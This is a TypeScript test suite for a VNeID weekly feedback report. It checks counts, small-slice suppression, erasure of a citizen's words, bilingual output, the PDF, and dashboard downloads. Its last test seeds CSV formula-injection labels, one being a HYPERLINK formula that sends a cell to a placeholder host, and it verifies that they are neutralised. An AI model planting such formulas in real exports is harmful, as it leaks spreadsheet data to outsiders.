/**
 * The weekly report on real databases (SQLite and PostgreSQL): seeded messages, roll-ups and
 * author_days written the way the pipeline writes them, a fixed clock, both languages.
 */
import Fastify from 'fastify';
import { PDFParse } from 'pdf-parse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadConfig } from '../app/config.ts';
import { createEventKeyer } from '../bots/shared/pseudonym.ts';
import { createDashboard } from '../dashboard/server/index.ts';
import type { Db } from '../db/database.ts';
import { eraseAuthor } from '../db/erasure.ts';
import { addRelease, insertAlert, saveReport } from '../db/trends.ts';
import { createUser } from '../db/users.ts';
import { fold } from '../workers/analysis/normalise.ts';
import { generateWeeklyReport } from '../workers/reports/generate.ts';
import { dimensionLabel } from '../workers/reports/i18n.ts';
import { dayStart, weekBounds } from '../workers/reports/iso-week.ts';
import { createTestDatabase, DIALECTS, type TestDatabase } from './helpers/databases.ts';

const TZ = 'Asia/Ho_Chi_Minh';
const WEEK = '2026-W47';
const { start } = weekBounds(WEEK, TZ); // Monday 16 Nov 2026 00:00 +07
const H = 3_600_000;
const D = 24 * H;
const NOW = start + 7 * D + 8 * H; // the following Monday 08:00
const K = 5;
const ERASED_WORDS = 'chim sáo xanh Quảng Trị';
const TUESDAY_ONLY = 'mã dự phòng vàng';
const FEW_AUTHORS = 'Tôi sợ bị lộ thông tin căn cước ở Đà Nẵng';

let seq = 0;
interface Msg {
  author: string;
  at: number;
  text: string;
  topic: string;
  channel?: string;
  sentiment?: string;
}

/** Stores a classified message as the pipeline does: messages + hourly roll-up + author_days. */
async function store(db: Db, m: Msg): Promise<number> {
  seq++;
  const channel = m.channel ?? 'telegram';
  const sentiment = m.sentiment ?? 'negative';
  const k = db.kysely;
  const inbox = await k
    .insertInto('inbox')
    .values({
      channel,
      event_id: `e${seq}`,
      kind: 'message',
      author_hash: m.author,
      received_at: m.at,
      payload: '{}',
      status: 'done',
      error: null,
      processed_at: m.at,
    })
    .returning('id')
    .executeTakeFirstOrThrow();
  const row = await k
    .insertInto('messages')
    .values({
      inbox_id: Number(inbox.id),
      channel,
      platform_message_id: `p${seq}`,
      author_hash: m.author,
      received_at: m.at,
      content_kind: 'text',
      text_redacted: m.text,
      text_normalised: fold(m.text),
      lang: 'vi',
      topic: m.topic,
      topic_score: 0.9,
      topics_json: '[]',
      sentiment,
      sentiment_score: 0.8,
      model_version: 'kw-test-1',
      ref_code: `R${seq}`,
      status: 'active',
      edited_at: null,
      created_at: m.at,
      updated_at: m.at,
    })
    .returning('id')
    .executeTakeFirstOrThrow();
  const hour = Math.floor(m.at / H) * H;
  await k
    .insertInto('rollups_hourly')
    .values({ hour_ts: hour, channel, topic: m.topic, sentiment, lang: 'vi', count: 1 })
    .onConflict((oc) =>
      oc
        .columns(['hour_ts', 'channel', 'topic', 'sentiment', 'lang'])
        .doUpdateSet((eb) => ({ count: eb('rollups_hourly.count', '+', 1) })),
    )
    .execute();
  await k
    .insertInto('author_days')
    .values({
      day_ts: dayStart(m.at, TZ),
      channel,
      topic: m.topic,
      sentiment,
      lang: 'vi',
      author_hash: m.author,
    })
    .onConflict((oc) => oc.doNothing())
    .execute();
  await k
    .insertInto('contacts')
    .values({
      channel,
      author_hash: m.author,
      lang: 'vi',
      first_seen_at: m.at,
      last_seen_at: m.at,
      notice_sent_at: null,
    })
    .onConflict((oc) => oc.doNothing())
    .execute();
  return Number(row.id);
}

const OTP = [
  'Tôi không nhận được mã OTP khi đăng nhập, đã thử nhiều lần rồi',
  'Ad ơi tôi không nhận được mã OTP khi đăng nhập, đã thử nhiều lần rồi!',
  'toi khong nhan duoc ma OTP khi dang nhap, da thu nhieu lan roi',
];

async function seed(db: Db) {
  const mon = start + 10 * H;
  // This week. otp: 12 citizens on Monday (a quotable slice) and 3 on Tuesday (a slice below k).
  for (let i = 0; i < 12; i++)
    await store(db, { author: `otp-${i}`, at: mon + i * 60_000, text: OTP[i % 3] ?? '', topic: 'otp' });
  for (let i = 0; i < 3; i++)
    await store(db, {
      author: `tue-${i}`,
      at: mon + D + i * 60_000,
      text: `Xin cấp ${TUESDAY_ONLY} để đăng nhập`,
      topic: 'otp',
    });
  // A citizen who is later erased: counted in the roll-ups, never quoted.
  const erasedId = await store(db, {
    author: 'erased',
    at: mon + 30 * 60_000,
    text: `Tôi không nhận được mã OTP, ${ERASED_WORDS}`,
    topic: 'otp',
  });
  // app_bug: a new failure after a release, 10 citizens on Zalo.
  for (let i = 0; i < 10; i++) {
    await store(db, {
      author: `bug-${i}`,
      at: mon + 2 * D + i * 120_000,
      text: `Ứng dụng bị lỗi sau khi cập nhật 2.1.5, không mở được ${i % 2 ? 'ạ' : ''}`,
      topic: 'app_bug',
      channel: 'zalo',
    });
  }
  // privacy: two citizens only, so never shown as a number nor quoted.
  for (let i = 0; i < 2; i++)
    await store(db, {
      author: `priv-${i}`,
      at: mon + 3 * D,
      text: FEW_AUTHORS,
      topic: 'privacy',
      channel: 'facebook',
    });
  // Previous week: 10 otp messages from 10 citizens. The three previous weeks: 10 app_bug a week, without the new phrase.
  for (let i = 0; i < 10; i++)
    await store(db, { author: `old-${i}`, at: mon - 7 * D + i * H, text: OTP[0] ?? '', topic: 'otp' });
  for (let w = 1; w <= 3; w++) {
    for (let i = 0; i < 10; i++)
      await store(db, {
        author: `old-bug-${w}-${i}`,
        at: mon - w * 7 * D + D + i * H,
        text: 'Ứng dụng bị treo khi mở, chạy rất chậm',
        topic: 'app_bug',
        channel: 'zalo',
      });
  }
  const releaseId = await addRelease(
    db,
    { at: mon + 2 * D - H, label: 'Phiên bản 2.1.5', kind: 'release', createdBy: 'lead@vneid' },
    mon,
  );
  await insertAlert(
    db,
    {
      scope: 'topic',
      seriesKey: 'topic:app_bug',
      topic: 'app_bug',
      channel: null,
      windowStart: mon + 2 * D,
      windowEnd: mon + 2 * D + 3 * H,
      observed: 10,
      expected: 0.5,
      score: 9.1,
      sampleMessageIds: [],
      releaseId,
    },
    mon + 2 * D + H,
  );
  const anyOtp = await db.kysely
    .selectFrom('messages')
    .select('id')
    .where('author_hash', '=', 'otp-0')
    .executeTakeFirstOrThrow();
  for (const messageId of [Number(anyOtp.id), erasedId]) {
    await db.kysely
      .insertInto('corrections')
      .values({
        message_id: messageId,
        corrected_by: 'analyst@vneid',
        old_topic: 'login',
        new_topic: 'otp',
        old_sentiment: 'negative',
        new_sentiment: 'negative',
        created_at: mon + 4 * D,
      })
      .execute();
  }
  // The product's own erasure: messages (and their corrections), inbox, replies, contact, author_days.
  const erased = await db.kysely
    .transaction()
    .execute((trx) => eraseAuthor(trx, 'telegram', 'erased', createEventKeyer('test'), 0));
  expect(erased).toMatchObject({ messages: 1, inbox: 1, contacts: 1, authorDays: 1, corrections: 1 });
}

describe.each(DIALECTS)('weekly report on %s', (dialect) => {
  let t: TestDatabase;
  beforeAll(async () => {
    t = await createTestDatabase(dialect);
    await seed(t.db);
  });
  afterAll(async () => t.destroy());

  const make = (lang: 'vi' | 'en') =>
    generateWeeklyReport({ db: t.db, week: WEEK, lang, k: K, tz: TZ, now: NOW });

  it('shows the expected numbers in HTML and CSV, suppressing small slices (Vietnamese)', async () => {
    const r = await make('vi');
    // 12 + 3 + 1 erased (roll-ups are anonymous and survive erasure) = 16 otp; 10 app_bug; 2 privacy.
    expect(r.data.total.current).toBe(28);
    expect(r.data.citizens).toBe(27);
    expect(r.html).toContain('<div id="total">28</div>');
    expect(r.html).toMatch(
      /<td>Mã OTP<\/td><td class="n">16<\/td><td class="n">10<\/td><td class="n">\+60,0%<\/td>/,
    );
    expect(r.html).toMatch(/<td>Bảo mật, lừa đảo<\/td><td class="n">&lt; 5<\/td>/);
    expect(r.html).not.toMatch(/Bảo mật, lừa đảo<\/td><td class="n">2</);
    expect(r.csv).toContain('\r\ntopic,otp,Mã OTP,16,10,60\r\n');
    expect(r.csv).toContain('\r\ntopic,app_bug,Lỗi ứng dụng,10,10,0\r\n');
    expect(r.csv).toContain('\r\ntopic,privacy,"Bảo mật, lừa đảo",< 5,0,\r\n');
    expect(r.csv).toContain('\r\ntotal,all,messages,28,20,40\r\n');
    expect(r.csv).toContain('\r\nemerging_term,app_bug,cập nhật 2.1.5,10,0,\r\n');
    expect(r.csv).toContain('correction,Đăng nhập -> Mã OTP,,1,,');
    expect(r.html).toContain('cập nhật 2.1.5'); // as citizens wrote it, not the folded form
    expect(r.html).toContain('bắt đầu gần mốc “Phiên bản 2.1.5”');
    expect(r.html).toContain('Phương pháp');
    expect(r.modelVersion).toBe('kw-test-1');
    // Quotes: the Monday otp complaint (12 near-identical copies), never a slice below k.
    expect(r.data.quotes.find((q) => q.topic === 'otp')?.quotes[0]).toEqual({ text: OTP[0], similar: 12 });
    expect(r.html).toContain('Tôi không nhận được mã OTP khi đăng nhập, đã thử nhiều lần rồi');
    for (const out of [r.html, r.csv]) {
      expect(out).not.toContain(TUESDAY_ONLY);
      expect(out).not.toContain(FEW_AUTHORS);
    }
  });

  it('is reproducible: the same week and data give the same bytes, whenever generated', async () => {
    const a = await make('vi');
    const b = await generateWeeklyReport({
      db: t.db,
      week: WEEK,
      lang: 'vi',
      k: K,
      tz: TZ,
      now: NOW + 3 * D,
    });
    expect(b.html).toBe(a.html);
    expect(b.csv).toBe(a.csv);
    expect(b.pdf.equals(a.pdf)).toBe(true);
  });

  it('renders in English on request', async () => {
    const r = await make('en');
    expect(r.html).toContain('VNeID weekly feedback report');
    expect(r.html).toMatch(
      /<td>OTP \/ SMS code<\/td><td class="n">16<\/td><td class="n">10<\/td><td class="n">\+60\.0%<\/td>/,
    );
    expect(r.csv).toContain('\r\ntopic,otp,OTP / SMS code,16,10,60\r\n');
  });

  it('embeds a font with Vietnamese diacritics in the PDF', async () => {
    const r = await make('vi');
    expect(r.pdf.subarray(0, 5).toString()).toBe('%PDF-');
    const parser = new PDFParse({ data: new Uint8Array(r.pdf) });
    const text = (await parser.getText()).text.normalize('NFC');
    await parser.destroy();
    expect(text).toContain('Báo cáo phản hồi VNeID hằng tuần');
    expect(text).toContain('Lỗi ứng dụng');
    expect(text).toContain('không nhận được mã OTP');
    expect(text).not.toContain('Quảng Trị');
  });

  it("never shows an erased citizen's words in any format or language", async () => {
    for (const lang of ['vi', 'en'] as const) {
      const r = await make(lang);
      const parser = new PDFParse({ data: new Uint8Array(r.pdf) });
      const pdfText = (await parser.getText()).text.normalize('NFC');
      await parser.destroy();
      for (const out of [r.html, r.csv, pdfText]) {
        expect(out).not.toContain(ERASED_WORDS);
        expect(out).not.toContain('sáo xanh');
        expect(fold(out)).not.toContain('sao xanh');
      }
    }
  });

  async function pdfText(pdf: Buffer): Promise<string> {
    const parser = new PDFParse({ data: new Uint8Array(pdf) });
    const text = (await parser.getText()).text.normalize('NFC');
    await parser.destroy();
    return text.replace(/\s+/g, ' ');
  }
  const textOf = (html: string) => html.replace(/<[^>]+>/g, '').replaceAll('&#39;', "'");

  it('in Vietnamese is Vietnamese: method, marker kinds and sentiment names as in the dashboard', async () => {
    const r = await make('vi');
    expect(dimensionLabel('vi', 'sentiment', 'neutral')).toBe('Trung tính');
    expect(r.html).toContain('Số liệu: đếm từ bảng tổng hợp theo giờ');
    expect(r.method).toContain('Đột biến: so với mức nền theo mùa');
    expect(r.html).toContain('Phiên bản 2.1.5 (Phát hành)');
    for (const english of [
      'Counts:',
      'Spikes:',
      'Emerging terms',
      '(release)',
      '(incident)',
      'tz=',
      'Neutral',
    ])
      expect(r.html).not.toContain(english);
    const pdf = await pdfText(r.pdf);
    expect(pdf).toContain('Phát hành');
    expect(pdf).not.toContain('Counts:');
    expect((await make('en')).html).toContain('Counts: hourly roll-ups');
  });

  it('shows emerging terms as whole words that citizens wrote, never folded fragments', async () => {
    const r = await make('vi');
    const terms = r.data.emerging.flatMap((g) => g.terms.map((x) => x.term));
    expect(terms).toContain('cập nhật 2.1.5');
    const texts = (await t.db.kysely.selectFrom('messages').select('text_redacted').execute()).map(
      (m) => ` ${m.text_redacted.toLowerCase().replace(/[,.!?](?=\s|$)/g, ' |')} `,
    );
    for (const term of terms) {
      expect(
        texts.some((x) => x.includes(` ${term.toLowerCase()} `)),
        term,
      ).toBe(true);
    }
    // No shown term is just a piece of another one shown beside it.
    for (const g of r.data.emerging)
      for (const a of g.terms)
        for (const b of g.terms)
          if (a !== b) expect(` ${b.term} `.includes(` ${a.term} `), a.term).toBe(false);
  });

  it("names topics in the spike table's topic column and channels in its own column", async () => {
    await insertAlert(
      t.db,
      {
        scope: 'channel',
        seriesKey: 'channel:zalo',
        topic: null,
        channel: 'zalo',
        windowStart: start + 2 * D + 10 * H,
        windowEnd: start + 2 * D + 12 * H,
        observed: 10,
        expected: 1,
        score: 7.5,
        sampleMessageIds: [],
        releaseId: null,
      },
      start + 2 * D + 11 * H,
    );
    const vi = await make('vi');
    expect(vi.html).toContain('<tr><td>Lỗi ứng dụng</td><td>Mọi kênh</td>');
    expect(vi.html).toContain('<tr><td>Mọi chủ đề</td><td>Zalo</td>');
    expect(vi.html).not.toMatch(/<tr><td>Zalo<\/td><td>\d/);
    const en = await make('en');
    expect(en.html).toContain('<tr><td>All topics</td><td>Zalo</td>');
    expect(await pdfText(vi.pdf)).toContain('Mọi chủ đề');
  });

  it('explains every column of every table, in both languages', async () => {
    for (const lang of ['vi', 'en'] as const) {
      const r = await make(lang);
      const legends = [...r.html.matchAll(/<p class="legend">(.*?)<\/p>/g)]
        .map((m) => textOf(m[1] ?? ''))
        .join(' ');
      const dimensionHeads = new Set(
        lang === 'vi'
          ? ['Theo kênh', 'Theo cảm xúc', 'Theo ngôn ngữ']
          : ['By channel', 'By sentiment', 'By language'],
      );
      const heads = new Set([...r.html.matchAll(/<th[^>]*>(.*?)<\/th>/g)].map((m) => textOf(m[1] ?? '')));
      expect(heads.size).toBeGreaterThan(10);
      for (const head of heads)
        if (!dimensionHeads.has(head)) expect(legends, `${lang}: ${head}`).toContain(head);
    }
  });

  it('carries the daily chart and the previous-week comparison in the PDF, as in the HTML', async () => {
    const r = await make('vi');
    const pdf = await pdfText(r.pdf);
    expect(pdf).toContain('Số tin nhắn theo ngày');
    for (const day of ['16/11', '17/11', '18/11', '19/11', '20/11', '21/11', '22/11']) {
      expect(r.html).toContain(`>${day}</text>`);
      expect(pdf).toContain(day);
    }
    expect(pdf).toContain('Phiên bản 2.1.5'); // the release marker on the chart and in the list
    expect(pdf.split('Tuần trước').length).toBeGreaterThan(3); // the bars' legend and each table
    expect(pdf).toContain('Thay đổi: chênh lệch so với tuần trước');
  });

  it('opens the HTML report in the browser tab; PDF and CSV download', async () => {
    const r = await make('vi');
    const id = await saveReport(t.db, { week: WEEK, lang: 'vi', ...r, createdBy: null }, NOW);
    await createUser(
      t.db,
      { email: `viewer-${dialect}@example.vn`, role: 'viewer', password: 'viewer password 1' },
      NOW,
    );
    const app = Fastify();
    const dashboard = createDashboard({
      config: loadConfig({}),
      db: t.db,
      now: () => NOW,
      logger: { info: () => {}, warn: () => {}, error: () => {} },
      enqueue: async () => {},
    });
    await app.register(dashboard.api, { prefix: '/api' });
    const login = await app.inject({
      method: 'POST',
      url: '/api/auth/login',
      payload: { email: `viewer-${dialect}@example.vn`, password: 'viewer password 1' },
    });
    const cookie = `vneid_session=${login.cookies.find((c) => c.name === 'vneid_session')?.value}`;
    const html = await app.inject({ url: `/api/reports/${id}/html`, headers: { cookie } });
    expect(html.statusCode).toBe(200);
    expect(html.headers['content-disposition']).toMatch(/^inline; filename=".+\.html"$/);
    expect(html.headers['content-type']).toContain('text/html');
    expect(html.headers['content-security-policy']).toContain("default-src 'none'");
    const pdf = await app.inject({ url: `/api/reports/${id}/pdf`, headers: { cookie } });
    expect(pdf.headers['content-disposition']).toMatch(/^attachment; /);
    await app.close();
  });

  // Last: it adds release markers to the shared week.
  it('neutralises release labels a spreadsheet would run as a formula', async () => {
    const labels = ['=HYPERLINK("http://x.example/?"&A1,"bấm")', '+1+2', '-3+4', '@SUM(A1:A9)'];
    for (const [i, label] of labels.entries()) {
      await addRelease(
        t.db,
        { at: start + 3 * D + i * H, label, kind: 'release', createdBy: 'a@vneid' },
        NOW,
      );
    }
    const r = await make('vi');
    const cells = r.csv.split('\r\n').flatMap((line) => line.split(','));
    for (const label of labels) {
      const first = label.split(',')[0] ?? label;
      expect(cells.some((c) => c.replace(/^"/, '').startsWith(first))).toBe(false);
    }
    expect(r.csv).toContain(`,"'=HYPERLINK(""http://x.example/?""&A1`);
    expect(r.csv).toContain(",'+1+2,");
    expect(r.csv).toContain(",'-3+4,");
    expect(r.csv).toContain(",'@SUM(A1:A9),");
    expect(r.csv).toContain('\r\ntopic,otp,Mã OTP,16,10,60\r\n'); // numbers stay numbers
  });
});
